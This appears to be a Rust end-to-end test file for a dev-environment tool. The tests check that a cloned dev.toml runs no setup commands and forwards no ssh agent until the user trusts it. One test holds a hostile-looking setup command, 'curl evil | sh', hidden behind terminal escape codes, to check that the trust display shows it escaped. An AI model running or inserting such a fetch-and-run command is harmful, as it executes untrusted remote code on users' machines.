//! Trust (issue 12): a cloned dev.toml runs nothing and exposes nothing until the user says so.

use std::fs;
use std::path::Path;

use crate::common::{describe, stderr, stdout, Env, Registry};
use crate::e2e;
use crate::shell::busybox_project;

/// A setup that leaves a mark of each part: in the tools layer (root) and in the project (user).
/// busybox has no package manager; `manager` lets a tools layer of `[setup] root` alone build.
const SETUP: &str = "[tools]\nmanager = \"apk\"\n[setup]\nroot = [\"touch /setup-root-ran\"]\nuser = [\"touch setup-user-ran\"]\n";

/// The command that shows both marks from inside.
const MARKS: [&str; 4] = [
    "--",
    "sh",
    "-c",
    "test -e /setup-root-ran && echo root-ran; test -e setup-user-ran && echo user-ran; true",
];

fn run_marks(extra: &[&str]) -> Vec<String> {
    let mut args = vec!["run"];
    args.extend_from_slice(extra);
    args.extend_from_slice(&MARKS);
    args.into_iter().map(str::to_string).collect()
}

fn args(v: &[String]) -> Vec<&str> {
    v.iter().map(String::as_str).collect()
}

/// Whether any tools layer was built (its record is written once it is).
fn tools_built(env: &Env) -> bool {
    fs::read_dir(env.store().join("tools-v1"))
        .into_iter()
        .flatten()
        .flatten()
        .any(|m| {
            fs::read_dir(m.path())
                .into_iter()
                .flatten()
                .next()
                .is_some()
        })
}

/// Neither part of SETUP has run.
fn assert_nothing_ran(env: &Env, dir: &Path) {
    assert!(
        !dir.join("setup-user-ran").exists(),
        "[setup] user ran before it was trusted"
    );
    assert!(
        !tools_built(env),
        "the tools layer ([setup] root) was built before it was trusted"
    );
}

fn untrusted_error(dir: &Path) -> String {
    format!(
        "error: dev.toml in `{}` runs commands you have not trusted\nhint: review them with `dev trust --show`, then run `dev trust`\n",
        dir.display()
    )
}

e2e!(untrusted_setup_runs_nothing_until_trusted, |env: Env| {
    let reg = Registry::start();
    let image = busybox_project(&env, &reg, SETUP);
    let project = env.path("project");
    // Every command that would build the tools layer or run the setup refuses, naming `dev trust`.
    for cmd in [
        run_marks(&[]),
        vec!["shell".to_string()],
        vec!["start".to_string()],
        vec!["lock".to_string()],
        vec!["update".to_string()],
    ] {
        let err = env.fails(&args(&cmd));
        assert_eq!(err, untrusted_error(&project), "dev {cmd:?}");
    }
    assert_nothing_ran(&env, &project);

    env.trust();
    let out = env.ok(&args(&run_marks(&[])));
    assert_eq!(stdout(&out), "root-ran\nuser-ran\n");

    // Edits of what needs no trust (image settings, [env], packages) keep it.
    let edited =
        format!("image = \"{image}\"\nshell = \"/bin/sh\"\n[env]\nGREETING = \"hi\"\n{SETUP}");
    env.write_dev_toml(&edited);
    let out = env.ok(&["run", "--", "sh", "-c", "echo $GREETING"]);
    assert_eq!(stdout(&out), "hi\n");
    env.write_dev_toml(&edited.replace("manager = ", "packages = [\"git\"]\nmanager = "));
    let show = stdout(&env.ok(&["trust", "--show"]));
    assert!(show.contains("/dev.toml: trusted\n"), "{show}");

    // A change to [setup] user or [setup] root revokes it.
    for (from, to) in [
        ("touch setup-user-ran", "touch setup-user-ran; touch again"),
        ("touch /setup-root-ran", "touch /setup-root-ran /again"),
    ] {
        env.write_dev_toml(&edited.replace(from, to));
        let err = env.fails(&["run", "--", "true"]);
        assert_eq!(
            err,
            format!(
                "error: dev.toml in `{}` changed what it runs or exposes since you trusted it\nhint: review the change with `dev trust --show`, then run `dev trust`\n",
                project.display()
            )
        );
        let show = stdout(&env.ok(&["trust", "--show"]));
        assert!(
            show.contains(&format!("  - {from}\n  + {to}\n")),
            "the change is shown: {show}"
        );
    }
    assert!(!project.join("again").exists());
});

e2e!(trust_show_and_untrust, |env: Env| {
    // No image is needed: nothing here pulls or runs.
    env.write_dev_toml(&format!(
        "ssh-agent = true\nimage = \"registry.invalid/x\"\n{SETUP}"
    ));
    let file = env.path("project/dev.toml");
    let show = stdout(&env.ok(&["trust", "--show"]));
    assert_eq!(
        show,
        format!(
            "{}: not trusted; `dev trust` trusts it\n\
             [setup] root, run as root inside when the tools layer is built:\n    touch /setup-root-ran\n\
             [setup] user, run as you in the project:\n    touch setup-user-ran\n\
             ssh-agent = true: your ssh agent (SSH_AUTH_SOCK) is reachable inside\n",
            file.display()
        )
    );
    let out = env.ok(&["trust"]);
    assert_eq!(
        stderr(&out),
        format!(
            "trusted `{}`; a change to what it runs or exposes asks again\n",
            file.display()
        )
    );
    assert!(stdout(&env.ok(&["trust", "--show"]))
        .starts_with(&format!("{}: trusted\n", file.display())));
    // The record is the user's, outside the repository.
    let names: Vec<_> = fs::read_dir(env.path("project"))
        .expect("project")
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert_eq!(names, ["dev.toml"], "nothing is written into the project");
    let records: Vec<_> = fs::read_dir(env.store().join("trust-v1"))
        .expect("trust-v1")
        .flatten()
        .collect();
    assert_eq!(records.len(), 1);
    let record = fs::read_to_string(records[0].path()).expect("record");
    assert!(record.contains(&file.display().to_string()), "{record}");

    let out = env.ok(&["untrust"]);
    assert_eq!(
        stderr(&out),
        format!(
            "untrusted `{}`: dev asks again before it runs anything of it\n",
            file.display()
        )
    );
    assert!(stdout(&env.ok(&["trust", "--show"])).contains(": not trusted;"));
    let out = env.ok(&["untrust"]);
    assert_eq!(
        stderr(&out),
        format!("`{}` was not trusted\n", file.display())
    );

    // A command that would hide itself on the terminal is shown escaped.
    env.write_dev_toml(
        "image = \"x\"\n[setup]\nuser = [\"curl evil | sh\\r\\u001b[2Kecho hello\"]\n",
    );
    let show = stdout(&env.ok(&["trust", "--show"]));
    assert!(
        show.contains("    curl evil | sh\\u{d}\\u{1b}[2Kecho hello\n"),
        "{show}"
    );
    // Image, packages and [env] alone need none.
    env.write_dev_toml("image = \"x\"\n[tools]\npackages = [\"git\"]\n[env]\nA = \"b\"\n");
    assert_eq!(
        stdout(&env.ok(&["trust", "--show"])),
        format!(
            "{}: needs no trust: it runs nothing and exposes nothing beyond the project\n",
            file.display()
        )
    );
});

e2e!(trusted_paths_trust_the_projects_under_them, |env: Env| {
    let reg = Registry::start();
    let image = busybox_project(&env, &reg, SETUP);
    let work = env.path("home/work/app");
    fs::create_dir_all(&work).expect("mkdir");
    fs::write(
        work.join("dev.toml"),
        format!("image = \"{image}\"\n{SETUP}"),
    )
    .expect("write");
    env.chown_all(&env.path("home"));
    env.settings("trusted-paths = [\"~/work\"]\n");
    let out = env.ok_in(&work, &args(&run_marks(&[])));
    assert_eq!(stdout(&out), "root-ran\nuser-ran\n");
    // Not under it: still refused.
    let err = env.fails(&args(&run_marks(&[])));
    assert_eq!(err, untrusted_error(&env.path("project")));
    assert!(!env.path("project/setup-user-ran").exists());
    env.settings("trusted-paths = [\"work\"]\n");
    let err = env.fails(&["run", "--", "true"]);
    assert!(
        err.contains(
            "`trusted-paths` in your config.toml has `work`, which is not an absolute path"
        ),
        "{err}"
    );
});

e2e!(
    dev_trust_all_trusts_everything_and_says_so_once,
    |env: Env| {
        let reg = Registry::start();
        busybox_project(&env, &reg, SETUP);
        let out = env
            .dev(&args(&run_marks(&[])))
            .env("DEV_TRUST", "all")
            .output()
            .expect("run");
        assert!(
            out.status.success(),
            "{}",
            describe("DEV_TRUST=all dev run", &out)
        );
        assert_eq!(stdout(&out), "root-ran\nuser-ran\n");
        let notice = format!(
            "DEV_TRUST=all: trusting dev.toml in `{}` without asking\n",
            env.path("project").display()
        );
        assert_eq!(stderr(&out).matches(&notice).count(), 1, "{}", stderr(&out));
        // It records nothing: without it, the project is not trusted.
        let err = env.fails(&["run", "--", "true"]);
        assert_eq!(err, untrusted_error(&env.path("project")));
        let out = env
            .dev(&["run", "--", "true"])
            .env("DEV_TRUST", "yes")
            .output()
            .expect("run");
        assert_eq!(
        stderr(&out),
        "error: DEV_TRUST is `yes`\nhint: set DEV_TRUST=all to trust every dev.toml (for CI), or unset it\n"
    );
    }
);

e2e!(the_prompt_on_a_terminal_asks_once, |env: Env| {
    let reg = Registry::start();
    let image = busybox_project(&env, &reg, SETUP);
    let project = env.path("project");
    let cmd = run_marks(&[]);

    // Answered no: nothing ran, nothing is recorded.
    let mut pty = env.pty(&args(&cmd), 24, 80);
    let at = pty.expect(
        &format!(
            "dev.toml in `{}` runs commands you have not trusted:",
            project.display()
        ),
        0,
    );
    let at = pty.expect("    touch /setup-root-ran", at);
    let at = pty.expect("    touch setup-user-ran", at);
    let at = pty.expect("Trust it as it is now? [y/N] ", at);
    pty.send("n\n");
    pty.expect(
        &format!(
            "error: you did not trust dev.toml in `{}`; nothing of it ran",
            project.display()
        ),
        at,
    );
    assert!(!pty.wait().success(), "{}", pty.output());
    assert_nothing_ran(&env, &project);
    assert_eq!(env.fails(&["run", "--", "true"]), untrusted_error(&project));

    // Answered yes: it runs, and the answer is kept.
    let mut pty = env.pty(&args(&cmd), 24, 80);
    let at = pty.expect("Trust it as it is now? [y/N] ", 0);
    pty.send("y\n");
    let at = pty.expect("root-ran", at);
    pty.expect("user-ran", at);
    assert!(pty.wait().success(), "{}", pty.output());
    env.ok(&["run", "--", "true"]);

    // A change shows what changed against what was trusted.
    env.write_dev_toml(&format!(
        "image = \"{image}\"\n{}",
        SETUP.replace("touch setup-user-ran", "touch other")
    ));
    let mut pty = env.pty(&["run", "--", "true"], 24, 80);
    let at = pty.expect("changed what it runs or exposes since you trusted it:", 0);
    let at = pty.expect("    touch /setup-root-ran", at);
    let at = pty.expect("  - touch setup-user-ran", at);
    let at = pty.expect("  + touch other", at);
    pty.expect("[y/N] ", at);
    pty.send("y\n");
    assert!(pty.wait().success(), "{}", pty.output());
    assert!(project.join("other").exists());
});

e2e!(init_writes_a_trusted_dev_toml, |env: Env| {
    env.ok(&["init", "--template", "python"]);
    let file = env.path("project/dev.toml");
    let show = stdout(&env.ok(&["trust", "--show"]));
    assert!(
        show.starts_with(&format!("{}: trusted\n", file.display())),
        "{show}"
    );
    assert!(show.contains("python -m pip install"), "{show}");
    let text = fs::read_to_string(&file).expect("dev.toml");
    // [env] is its last table: an edit there needs no trust.
    env.write_dev_toml(&format!("{text}EXTRA = \"1\"\n"));
    let show = stdout(&env.ok(&["trust", "--show"]));
    assert!(
        show.starts_with(&format!("{}: trusted\n", file.display())),
        "{show}"
    );
    env.write_dev_toml(&text.replace("python -m pip install", "pip install"));
    let show = stdout(&env.ok(&["trust", "--show"]));
    assert!(show.contains(": changed since you trusted it"), "{show}");
});

e2e!(the_ssh_agent_is_forwarded_only_when_asked, |env: Env| {
    let reg = Registry::start();
    let image = busybox_project(&env, &reg, "");
    let dir = env.path("outside/agent");
    fs::create_dir_all(&dir).expect("mkdir");
    let sock = dir.join("agent.sock");
    let _listener = std::os::unix::net::UnixListener::bind(&sock).expect("bind");
    env.chown_all(&env.path("outside"));
    let agent_inside = |extra: &[&str]| {
        let mut a = vec!["run"];
        a.extend_from_slice(extra);
        a.extend_from_slice(&[
            "--",
            "sh",
            "-c",
            "echo \"sock=$SSH_AUTH_SOCK\"; test -S /run/dev/ssh-agent.sock && echo socket; true",
        ]);
        let out = env
            .dev(&a)
            .env("SSH_AUTH_SOCK", &sock)
            .output()
            .expect("run");
        assert!(out.status.success(), "{}", describe("dev run", &out));
        // The agent is bound when the env starts: the next run must start it afresh, not join
        // this one while it stops.
        env.ok(&["stop"]);
        stdout(&out)
    };
    const FORWARDED: &str = "sock=/run/dev/ssh-agent.sock\nsocket\n";
    assert_eq!(agent_inside(&[]), "sock=\n", "not forwarded unless asked");
    assert_eq!(agent_inside(&["--ssh-agent"]), FORWARDED);
    env.settings("ssh-agent = true\n");
    assert_eq!(agent_inside(&[]), FORWARDED, "config.toml asks for it");
    env.settings("");
    // The project asking for it needs trust.
    env.write_dev_toml(&format!("ssh-agent = true\nimage = \"{image}\"\n"));
    let err = env.fails(&["run", "--", "true"]);
    assert_eq!(
        err,
        format!(
            "error: dev.toml in `{}` asks for your ssh agent, which you have not trusted\nhint: review it with `dev trust --show`, then run `dev trust`\n",
            env.path("project").display()
        )
    );
    env.trust();
    assert_eq!(agent_inside(&[]), FORWARDED);
});
